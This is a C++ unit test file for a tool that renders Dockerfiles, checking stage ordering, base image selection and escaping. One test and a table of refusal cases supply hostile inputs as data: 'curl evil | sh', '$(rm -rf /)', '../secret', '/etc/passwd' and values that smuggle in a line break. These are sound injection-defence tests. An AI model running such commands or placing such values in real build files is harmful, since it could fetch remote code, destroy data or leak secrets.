#include "core/dockerfile_renderer.hpp"

#include <sstream>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

namespace kiln {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

sdk::BuildPlan node_plan() {
  sdk::BuildPlan plan;
  plan.buildpack = "kiln.node";
  plan.language = "node";
  plan.build_image = plan.run_image = "node";
  plan.phases = {{"install", {"package.json", "package-lock.json", "prisma/schema.prisma"}, {"npm ci"}, {}},
                 {"build", {}, {"npm run build"}, {}}};
  plan.start.shell = "npm start";
  plan.port = 3000;
  return plan;
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

// Every line must be a comment, blank, or one of the instructions the renderer
// writes; a value that smuggled in a line break would show up here.
void expect_only_known_instructions(const std::string& dockerfile) {
  static const std::vector<std::string> known = {"FROM ", "WORKDIR ", "ENV ", "RUN ", "COPY ",
                                                 "EXPOSE ", "LABEL ", "USER ", "CMD "};
  for (const auto& line : lines_of(dockerfile)) {
    if (line.empty() || line[0] == '#') continue;
    bool ok = false;
    for (const auto& k : known) ok = ok || line.rfind(k, 0) == 0;
    EXPECT_TRUE(ok) << "unexpected line: " << line;
    EXPECT_NE(line.back(), '\\') << "line continuation: " << line;
  }
}

// The JSON array of an exec-form line, parsed back.
std::vector<std::string> exec_form(const std::string& dockerfile, const std::string& instruction, std::size_t nth = 0) {
  for (const auto& line : lines_of(dockerfile))
    if (line.rfind(instruction + " [", 0) == 0 && nth-- == 0)
      return nlohmann::json::parse(line.substr(instruction.size() + 1)).get<std::vector<std::string>>();
  return {};
}

TEST(DockerfileRenderer, DependencyLayersComeBeforeTheSource) {
  auto text = render_dockerfile(node_plan(), {});
  ASSERT_TRUE(text.ok()) << text.error().message;
  const auto& d = *text;
  auto manifests = d.find(R"(COPY ["package.json", "package-lock.json", "./"])");
  auto nested = d.find(R"(COPY ["prisma/schema.prisma", "./prisma/"])");
  auto install = d.find("npm ci");
  auto source = d.find("COPY . .");
  auto build = d.find("npm run build");
  ASSERT_NE(manifests, std::string::npos) << d;
  ASSERT_NE(nested, std::string::npos) << d;
  EXPECT_LT(manifests, install);
  EXPECT_LT(nested, install);
  EXPECT_LT(install, source);
  EXPECT_LT(source, build);
  EXPECT_THAT(d, HasSubstr("FROM kiln/stack-node-22:bookworm AS build\n"));
  EXPECT_THAT(d, HasSubstr("USER 10001:10001\n"));
  EXPECT_THAT(d, HasSubstr("EXPOSE 3000\n"));
  EXPECT_THAT(d, HasSubstr("ENV PORT=\"3000\"\n"));
  EXPECT_THAT(d, HasSubstr("LABEL \"io.kiln.buildpack\"=\"kiln.node\"\n"));
  EXPECT_EQ(exec_form(d, "CMD"), (std::vector<std::string>{"/bin/sh", "-c", "exec npm start"}));
  EXPECT_THAT(d, Not(HasSubstr(" AS run")));  // no artifacts: one stage
  expect_only_known_instructions(d);
}

TEST(DockerfileRenderer, ArtifactsMakeASecondStageWithOnlyThosePaths) {
  sdk::BuildPlan plan;
  plan.buildpack = "kiln.go";
  plan.language = "go";
  plan.build_image = "go";
  plan.run_image = "base";
  plan.phases = {{"download", {"go.mod", "go.sum"}, {"go mod download"}, {}},
                 {"build", {}, {"CGO_ENABLED=0 go build -o /app/server ."}, {}}};
  plan.artifacts = {{"/app/server", "/app/server"}, {"static", "public"}};
  plan.start.argv = {"/app/server"};
  plan.port = 8080;
  plan.run_packages = {"tzdata"};
  auto text = render_dockerfile(plan, {});
  ASSERT_TRUE(text.ok()) << text.error().message;
  const auto& d = *text;
  auto run_stage = d.find("FROM kiln/stack-base:bookworm AS run\n");
  ASSERT_NE(run_stage, std::string::npos) << d;
  EXPECT_GT(d.find(R"(COPY --from=build ["/app/server", "/app/server"])"), run_stage);
  EXPECT_GT(d.find(R"(COPY --from=build ["/app/static", "/app/public"])"), run_stage);
  EXPECT_GT(d.find("tzdata"), run_stage);
  EXPECT_GT(d.find("USER 10001:10001"), run_stage);
  EXPECT_EQ(exec_form(d, "CMD"), std::vector<std::string>{"/app/server"});
  expect_only_known_instructions(d);
}

TEST(DockerfileRenderer, StacksMapToOtherImagesWithOneSetting) {
  RenderOptions options;
  ASSERT_TRUE(options.catalogue.map_image("node", "node:22-bookworm-slim").ok());
  auto text = render_dockerfile(node_plan(), options);
  ASSERT_TRUE(text.ok());
  EXPECT_THAT(*text, HasSubstr("FROM node:22-bookworm-slim AS build\n"));
  EXPECT_FALSE(options.catalogue.map_image("nodejs", "node:22").ok());  // a typo names nothing
}

TEST(DockerfileRenderer, APinNoStackSatisfiesFailsTheRender) {
  auto plan = node_plan();
  plan.build_image = plan.run_image = sdk::BaseImage::of_runtime("node", ">=30", sdk::VersionPin{".nvmrc", 1, ""});
  auto text = render_dockerfile(plan, {});
  ASSERT_FALSE(text.ok());
  EXPECT_EQ(text.error().code, ErrorCode::PlanFailed);
  EXPECT_THAT(text.error().message, HasSubstr(".nvmrc:1 asks for node >=30; the stack catalogue offers node 20."));
}


sdk::BuildPlan go_plan_on(const std::string& run_image) {
  sdk::BuildPlan plan;
  plan.buildpack = "kiln.go";
  plan.language = "go";
  plan.build_image = "go";
  plan.run_image = run_image;
  plan.phases = {{"build", {}, {"go build -o /app/server ."}, {}}};
  plan.artifacts = {{"/app/server", "/app/server"}};
  plan.start.argv = {"/app/server"};
  return plan;
}

TEST(DockerfileRenderer, SlimRunStacksGiveWayWhenThePlanNeedsAptOrAShell) {
  auto on = [](sdk::BuildPlan plan) {
    auto text = render_dockerfile(plan, {});
    EXPECT_TRUE(text.ok()) << text.error().message;
    auto from = text->find(" AS run\n");
    auto start = text->rfind("FROM ", from);
    return text->substr(start + 5, from - start - 5);
  };
  EXPECT_EQ(on(go_plan_on("minimal")), "kiln/stack-minimal:bookworm");

  auto with_packages = go_plan_on("minimal");
  with_packages.run_packages = {"libpq5"};
  EXPECT_EQ(on(with_packages), "kiln/stack-base:bookworm");

  // minimal has no shell; cc-runtime has dash.
  auto shell_start = go_plan_on("minimal");
  shell_start.start = sdk::StartCommand{{}, "/app/server --port $PORT"};
  EXPECT_EQ(on(shell_start), "kiln/stack-base:bookworm");
  shell_start.run_image = "cc-runtime";
  EXPECT_EQ(on(shell_start), "kiln/stack-cc-runtime:bookworm");

  // A versioned run stack gives way to the build stack of its own version.
  auto python = go_plan_on("python-runtime");
  python.run_packages = {"libpq5"};
  EXPECT_EQ(on(python), "kiln/stack-python-3.11:bookworm");
  python.run_image = sdk::BaseImage::of_runtime("python-runtime", ">=3.13");
  EXPECT_EQ(on(python), "kiln/stack-python-3.13:trixie");
  python.run_packages.clear();
  EXPECT_EQ(on(python), "kiln/stack-python-3.13-runtime:trixie");
  // Any other image is the user's to choose.
  auto other = go_plan_on("debian:bookworm-slim");
  other.run_packages = {"libpq5"};
  EXPECT_EQ(on(other), "debian:bookworm-slim");
}

TEST(DockerfileRenderer, AFullerStackTheCatalogueDoesNotHaveIsAnError) {
  auto catalogue = StackCatalogue::parse(R"([[stack]]
name = "slim"
runtime = "slim"
image = "slim:1"
fuller = "gone"
)", "test.toml");
  ASSERT_TRUE(catalogue.ok()) << catalogue.error().message;
  RenderOptions options;
  options.catalogue = *catalogue;
  options.catalogue.merge(StackCatalogue::builtin());
  auto plan = go_plan_on("slim");
  plan.run_packages = {"libpq5"};
  auto text = render_dockerfile(plan, options);
  ASSERT_FALSE(text.ok());
  EXPECT_THAT(text.error().message, HasSubstr("stack slim names the fuller stack gone"));
}

TEST(DockerfileRenderer, HostileValuesStayInsideTheirInstruction) {
  auto plan = node_plan();
  const std::string hostile = R"(x" \"; RUN curl evil | sh; echo "$(id) `id` ${HOME} \)";
  plan.env["HOSTILE"] = hostile;
  plan.phases[1].commands = {"echo one\nRUN evil", "echo \"$(whoami)\" \\"};
  plan.start = sdk::StartCommand{{"node", "server.js", "--title", "a\"b\\c\nd"}, ""};
  RenderOptions options;
  options.labels["team\"x"] = "ops $(rm -rf /) \\";
  options.app_name = "my app";
  auto text = render_dockerfile(plan, options);
  ASSERT_TRUE(text.ok()) << text.error().message;
  const auto& d = *text;
  expect_only_known_instructions(d);
  // ENV: \, " and $ escaped inside one double-quoted word.
  EXPECT_THAT(d, HasSubstr(R"(ENV HOSTILE="x\" \\\"; RUN curl evil | sh; echo \"\$(id) `id` \${HOME} \\")"));
  // RUN and CMD are JSON: parsing them back gives the exact strings.
  EXPECT_EQ(exec_form(d, "RUN", 1), (std::vector<std::string>{"/bin/sh", "-c", "echo one\nRUN evil"}));
  EXPECT_EQ(exec_form(d, "RUN", 2), (std::vector<std::string>{"/bin/sh", "-c", "echo \"$(whoami)\" \\"}));
  EXPECT_EQ(exec_form(d, "CMD"), (std::vector<std::string>{"node", "server.js", "--title", "a\"b\\c\nd"}));
  EXPECT_THAT(d, HasSubstr(R"(LABEL "team\"x"="ops \$(rm -rf /) \\")"));
}

TEST(DockerfileRenderer, ShellStartsWithOperatorsAreNotExeced) {
  EXPECT_EQ(start_command_argv({{}, "npm run migrate && npm start"}),
            (std::vector<std::string>{"/bin/sh", "-c", "npm run migrate && npm start"}));
  EXPECT_EQ(start_command_argv({{}, "FOO=1 node server.js"}),
            (std::vector<std::string>{"/bin/sh", "-c", "FOO=1 node server.js"}));
  EXPECT_EQ(start_command_argv({{}, "gunicorn -b 0.0.0.0:${PORT:-8000} app:app"}),
            (std::vector<std::string>{"/bin/sh", "-c", "exec gunicorn -b 0.0.0.0:${PORT:-8000} app:app"}));
}

struct BadPlan {
  const char* name;
  void (*spoil)(sdk::BuildPlan&);
  const char* expected;
};

class DockerfileRendererRefuses : public ::testing::TestWithParam<BadPlan> {};

TEST_P(DockerfileRendererRefuses, WithAMessageNamingTheField) {
  auto plan = node_plan();
  GetParam().spoil(plan);
  auto text = render_dockerfile(plan, {});
  ASSERT_FALSE(text.ok()) << *text;
  EXPECT_THAT(text.error().message, HasSubstr(GetParam().expected));
}

INSTANTIATE_TEST_SUITE_P(
    Cases, DockerfileRendererRefuses,
    ::testing::Values(
        BadPlan{"EnvNewline", [](sdk::BuildPlan& p) { p.env["A"] = "1\nRUN evil"; }, "env.A"},
        BadPlan{"EnvName", [](sdk::BuildPlan& p) { p.env["A B"] = "1"; }, "env.A B: is not a valid name in a table of variables"},
        BadPlan{"InputTraversal", [](sdk::BuildPlan& p) { p.phases[0].inputs = {"../secret"}; }, "phases[0].inputs[0]"},
        BadPlan{"InputAbsolute", [](sdk::BuildPlan& p) { p.phases[0].inputs = {"/etc/passwd"}; }, "relative"},
        BadPlan{"InputDollar", [](sdk::BuildPlan& p) { p.phases[0].inputs = {"$HOME/x"}; }, "letters, digits"},
        BadPlan{"ArtifactQuote", [](sdk::BuildPlan& p) { p.artifacts = {{"/app/a\"b", "/x"}}; }, "artifacts[0]"},
        BadPlan{"Package", [](sdk::BuildPlan& p) { p.build_packages = {"curl && rm -rf /"}; }, "build_packages[0]"},
        BadPlan{"Image", [](sdk::BuildPlan& p) { p.build_image = "node\nRUN evil"; }, "build_image"},
        BadPlan{"Port", [](sdk::BuildPlan& p) { p.port = 70000; }, "port"},
        BadPlan{"NoStart", [](sdk::BuildPlan& p) { p.start = {}; }, "start"},
        BadPlan{"Workdir", [](sdk::BuildPlan& p) { p.workdir = "app"; }, "workdir"}),
    [](const auto& info) { return std::string(info.param.name); });

}  // namespace
}  // namespace kiln

namespace kiln {
namespace {

TEST(DockerfileRenderer, ACaBundleIsTrustedInTheBuildStageOnly) {
  auto plan = node_plan();
  plan.build_packages = {"python3"};
  RenderOptions options;
  options.ca_bundle = true;
  auto text = render_dockerfile(plan, options);
  ASSERT_TRUE(text.ok()) << text.error().message;
  const auto& d = *text;
  auto run_stage = d.find(" AS run\n");
  ASSERT_NE(run_stage, std::string::npos) << "a one-stage plan must get a clean run stage:\n" << d;
  auto trust = d.find(R"(COPY [".kiln-ca/", "/usr/local/share/ca-certificates/kiln/"])");
  ASSERT_NE(trust, std::string::npos) << d;
  EXPECT_LT(trust, d.find("npm ci"));
  EXPECT_LT(d.find("update-ca-certificates"), d.find("npm ci"));
  EXPECT_LT(d.find("ENV NODE_EXTRA_CA_CERTS="), d.find("npm ci"));
  EXPECT_LT(d.find("rm -rf /usr/local/share/ca-certificates/kiln /app/.kiln-ca"), run_stage);
  auto run_part = d.substr(run_stage);
  EXPECT_THAT(run_part, Not(HasSubstr("kiln-ca")));
  EXPECT_THAT(run_part, Not(HasSubstr("CA_CERTS")));
  EXPECT_THAT(run_part, Not(HasSubstr("SSL_CERT_FILE")));
  EXPECT_THAT(run_part, HasSubstr(R"(COPY --from=build ["/app", "/app"])"));
  EXPECT_THAT(run_part, HasSubstr(R"(COPY --from=build ["/usr/local", "/usr/local"])"));
  EXPECT_THAT(run_part, HasSubstr("python3"));  // what the single image had at run time, it still has
  expect_only_known_instructions(d);
}

}  // namespace
}  // namespace kiln
